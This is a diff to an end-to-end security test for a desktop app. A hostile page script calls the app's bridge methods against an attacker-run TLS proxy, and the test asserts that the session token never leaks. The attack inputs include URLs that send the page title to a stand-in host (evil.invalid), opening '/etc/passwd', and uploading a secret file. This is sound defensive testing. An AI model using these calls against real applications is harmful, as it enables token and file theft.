@@ -7,7 +7,7 @@ import { TLSSocket } from 'node:tls';
 import keytar from 'keytar';
 import { channels } from '../../src/contract/ipc/channels';
 import { findProgram } from '../support/system-programs';
-import { clickDecision, questionWindow } from '../support/question-window';
+import { clickDecision, promptWindow } from '../support/prompt-window';
 import { createIdentity, type Identity } from '../support/self-signed';
 import { startTlsProxy } from '../support/tls-proxy';
 import { expect, test } from './fixture';
@@ -19,21 +19,21 @@ import { text } from './support/texts';
 
 /** A proxy of an attacker. It terminates TLS with a certificate of its own and records every byte received. */
 const startStranger = async (identity: Identity) => {
-  const heard: Buffer[] = [];
+  const received: Buffer[] = [];
   const sockets = new Set<Socket>();
   let greetings = 0;
   const server = createServer((socket) => {
     sockets.add(socket);
     socket.on('error', () => { socket.destroy(); });
     socket.once('data', (first: Buffer) => {
-      heard.push(first);
+      received.push(first);
       if (!first.toString('latin1').startsWith('CONNECT ')) { socket.end('HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\n{}'); return; }
       socket.write('HTTP/1.1 200 Connection Established\r\n\r\n');
       greetings += 1;
       const secure = new TLSSocket(socket, { isServer: true, key: identity.key, cert: identity.cert });
       secure.on('error', () => { socket.destroy(); });
       secure.on('data', (part: Buffer) => {
-        heard.push(part);
+        received.push(part);
         secure.end('HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 2\r\n\r\n{}');
       });
     });
@@ -42,7 +42,7 @@ const startStranger = async (identity: Identity) => {
   await once(server, 'listening');
   return {
     port: (server.address() as AddressInfo).port,
-    heard: () => Buffer.concat(heard).toString('latin1'),
+    heard: () => Buffer.concat(received).toString('latin1'),
     greetings: () => greetings,
     async stop() {
       const closed = once(server, 'close');
@@ -78,7 +78,8 @@ const attack = async ({ server, fingerprint, proxyPort, secretPath, names }: Hos
     'servers:choose': [{ address: 'https://evil.invalid' }, { address: server }], 'servers:trust': [{ server, fingerprint }], 'servers:prompt-trust': [{ address: server }, { address: 'https://evil.invalid' }],
     'servers:revoke-trust': [], 'network:set-proxy': [proxy, { mode: 'pac', url: `http://127.0.0.1:${proxyPort}/proxy.pac` }],
     'network:answer': [{ id: '1', login: { name: 'a', password: 'b' } }],
-    'files:upload-dropped': [...files.map((each) => ({ files: each, folder: 'Desktop' })), { drop: 't', proofs: [''], folder: 'Desktop' }],
+    'files:upload-dropped': [...files.map((each) => ({ files: each, names: ['x'], folder: 'Desktop' })), { drop: 't', proofs: [''], names: ['x'], folder: 'Desktop' }],
+    'files:upload-chosen': [{ choice: secretPath, folder: 'Desktop', fileNames: [secretPath], folders: [] }],
     'files:challenge': [{ paths: [secretPath] }], 'files:upload-paths': files.map((each) => ({ files: each, folder: 'Desktop' })),
     'desktop-settings:set': [{ downloads: { folder: '/' } }], 'window:open-external': [{ url: `https://evil.invalid/?${document.title}` }, { url: 'mailto:a@evil.invalid' }],
     'links:open': [{ address: 'https://evil.invalid/' }], 'links:decide': [{ id: '1', agrees: true }], 'downloads:open-externally': [{ guid: 'x', name: '/etc/passwd' }],
@@ -86,9 +87,9 @@ const attack = async ({ server, fingerprint, proxyPort, secretPath, names }: Hos
   };
   /** Calls that end the page, close its account or open a system dialog, which needs a person. */
   const apart = ['window:close', 'window:print', 'window:open-menu', 'windows:open', 'session:sign-out', 'accounts:sign-out', 'accounts:remove', 'accounts:add', 'accounts:switch', 'updates:restart',
-    'files:choose-and-upload', 'files:save', 'files:save-text', 'downloads:choose-folder', 'diagnostics:export', 'window:minimize', 'window:toggle-maximize'];
+    'files:choose-uploads', 'files:save', 'files:save-text', 'downloads:choose-folder', 'diagnostics:export', 'window:minimize', 'window:toggle-maximize'];
   const outcome: Record<string, string> = {};
-  const within = (answer: Promise<unknown>): Promise<unknown> => Promise.race([answer, new Promise((resolve) => { setTimeout(() => { resolve('no answer'); }, 3000); })]);
+  const within = (result: Promise<unknown>): Promise<unknown> => Promise.race([result, new Promise((resolve) => { setTimeout(() => { resolve('no answer'); }, 3000); })]);
   for (const name of [...names, 'servers:trust', 'network:answer', 'files:challenge', 'files:upload-paths'].filter((each) => !apart.includes(each))) {
     for (const input of inputs[name] ?? [undefined]) {
       try {
@@ -132,7 +133,7 @@ const escape = async ({ port, host }: { readonly port: number; readonly host: st
   return { own: typeof RTCPeerConnection, gathered };
 };
 
-test('a script in a page sends the token to nobody, whatever it asks of the bridge', async ({ hosts, server }) => {
+test('a script in a page sends the token to no one, whatever it requests from the bridge', async ({ hosts, server }) => {
   if ('missing' in hosts) { test.skip(true, hosts.missing); return; }
   test.skip(findProgram('openssl') === null, 'openssl is not installed');
   const keychain = process.env['DECKLE_KEYCHAIN_UNAVAILABLE'];
@@ -146,12 +147,12 @@ test('a script in a page sends the token to nobody, whatever it asks of the brid
   const stranger = await startStranger(strange);
   const listener = await startListener();
   const host = await hosts.create(front.url) as DesktopHost;
-  const questions = () => host.app().windows().filter((window) => window.url().startsWith('app://question'));
+  const prompts = () => host.app().windows().filter((window) => window.url().startsWith('app://prompt'));
   try {
     const form = await host.open();
     await signInForm(form).waitFor();
     await form.getByRole('button', { name: text('network', 'certificateLook') }).click();
-    await clickDecision(await questionWindow(host.app()), 'accept');
+    await clickDecision(await promptWindow(host.app()), 'accept');
     const page = await host.withSessionChange(form, () => signUpOnScreen(form, newAccount()));
     await navigation(page).waitFor();
     await create(page, 'folder', 'Before');
@@ -166,14 +167,14 @@ test('a script in a page sends the token to nobody, whatever it asks of the brid
     const hostile: Hostile = { server: front.url, fingerprint: strange.fingerprint, proxyPort: stranger.port, secretPath, names };
     const proxyNow = () => page.evaluate(() => window.deckle?.invoke['network:proxy']());
 
-    await test.step('without a click nothing is asked, nothing changes and nothing is sent', async () => {
+    await test.step('without a click nothing is requested, nothing changes and nothing is sent', async () => {
       // The activation of an earlier click has expired; the attacker does not wait.
       await page.evaluate(() => window.deckle?.invoke['network:sign-in']());
       const outcome = await page.evaluate(attack, hostile);
       for (const name of ['servers:choose', 'network:set-proxy', 'session:sign-in', 'session:sign-up', 'window:open-external', 'links:decide', 'desktop-settings:set', 'downloads:open-externally']) {
         expect(JSON.parse(outcome[name] ?? 'null'), name).toMatchObject({ ok: false });
       }
-      expect(questions()).toEqual([]);
+      expect(prompts()).toEqual([]);
       expect(await proxyNow()).toMatchObject({ data: { proxy: { mode: 'system' } } });
       expect(JSON.stringify(outcome)).not.toContain(token);
     });
@@ -184,40 +185,40 @@ test('a script in a page sends the token to nobody, whatever it asks of the brid
       // Chosen and dropped files are uploaded by the same function.
       await page.evaluate(() => { document.body.append(Object.assign(document.createElement('input'), { type: 'file', id: 'chosen' })); });
       await page.locator('#chosen').setInputFiles(secretPath);
-      const chosen = await page.evaluate(() => window.deckle?.invoke['files:upload-dropped']({ files: [...document.querySelector<HTMLInputElement>('#chosen')?.files ?? []], folder: 'Desktop' }));
+      const chosen = await page.evaluate(() => window.deckle?.invoke['files:upload-dropped']({ files: [...document.querySelector<HTMLInputElement>('#chosen')?.files ?? []], names: ['secret.txt'], folder: 'Desktop' }));
       expect(chosen).toEqual({ ok: true, data: 1 });
       await expect(row(page, 'secret.txt')).toBeVisible();
     });
-    await test.step('with a click the person is asked, and declining leaves all as it is', async () => {
+    await test.step('with a click the person gets a prompt, and declining changes nothing', async () => {
       await page.mouse.click(400, 20);
-      const asked = page.evaluate((port) => window.deckle?.invoke['network:set-proxy']({ mode: 'manual', host: '127.0.0.1', port, bypass: ['<-loopback>'] }), stranger.port);
-      const question = await questionWindow(host.app());
-      await expect(question.locator('button[name=decline]')).toBeFocused();
-      expect(await question.evaluate(() => [typeof window.deckle, document.scripts.length])).toEqual(['undefined', 0]);
-      await clickDecision(question, 'decline');
-      expect(await asked).toEqual({ ok: true, data: false });
+      const change = page.evaluate((port) => window.deckle?.invoke['network:set-proxy']({ mode: 'manual', host: '127.0.0.1', port, bypass: ['<-loopback>'] }), stranger.port);
+      const prompt = await promptWindow(host.app());
+      await expect(prompt.locator('button[name=decline]')).toBeFocused();
+      expect(await prompt.evaluate(() => [typeof window.deckle, document.scripts.length])).toEqual(['undefined', 0]);
+      await clickDecision(prompt, 'decline');
+      expect(await change).toEqual({ ok: true, data: false });
       await page.mouse.click(400, 20);
       await page.evaluate(() => { window.open('https://evil.invalid/?leak', '_blank', 'noopener'); });
-      await clickDecision(await questionWindow(host.app()), 'decline');
+      await clickDecision(await promptWindow(host.app()), 'decline');
       expect(await opened.jsonValue()).toEqual([]);
       expect(await proxyNow()).toMatchObject({ data: { proxy: { mode: 'system' } } });
     });
-    await test.step('by its own means the page reaches nobody', async () => {
+    await test.step('by itself the page reaches no one', async () => {
       expect(await page.evaluate(escape, { port: listener.port, host: 'leak.invalid' })).toEqual({ own: 'undefined', gathered: expect.stringMatching(/none|complete|gathering/) as unknown });
       expect(listener.comers()).toBe(0);
       expect(page.url()).toMatch(/^app:\/\/deckle\//);
-      expect(questions()).toEqual([]);
+      expect(prompts()).toEqual([]);
     });
     expect(stranger.heard()).toBe('');
-    await test.step('behind the stranger’s proxy the page trusts it for nobody, so it hears no token', async () => {
+    await test.step('behind the stranger’s proxy the page cannot trust the proxy, so the proxy receives no token', async () => {
       await page.mouse.click(400, 20);
-      const asked = page.evaluate((port) => window.deckle?.invoke['network:set-proxy']({ mode: 'manual', host: '127.0.0.1', port, bypass: ['<-loopback>'] }), stranger.port);
-      await clickDecision(await questionWindow(host.app()), 'accept');
-      expect(await asked).toEqual({ ok: true, data: true });
+      const change = page.evaluate((port) => window.deckle?.invoke['network:set-proxy']({ mode: 'manual', host: '127.0.0.1', port, bypass: ['<-loopback>'] }), stranger.port);
+      await clickDecision(await promptWindow(host.app()), 'accept');
+      expect(await change).toEqual({ ok: true, data: true });
       await expect(page.getByText(text('network', 'certificateChanged'))).toBeVisible({ timeout: reconnectTimeoutMs });
       expect(stranger.greetings()).toBeGreaterThan(0);
       await page.evaluate(attack, hostile);
-      for (const question of questions()) await clickDecision(question, 'decline');
+      for (const prompt of prompts()) await clickDecision(prompt, 'decline');
       await create(page, 'folder', 'Behind the stranger');
       await expect(row(page, 'Behind the stranger')).toBeVisible();
       expect(await page.evaluate(() => window.deckle?.invoke['network:problem']())).toMatchObject({ data: { kind: 'certificate', isChanged: true } });
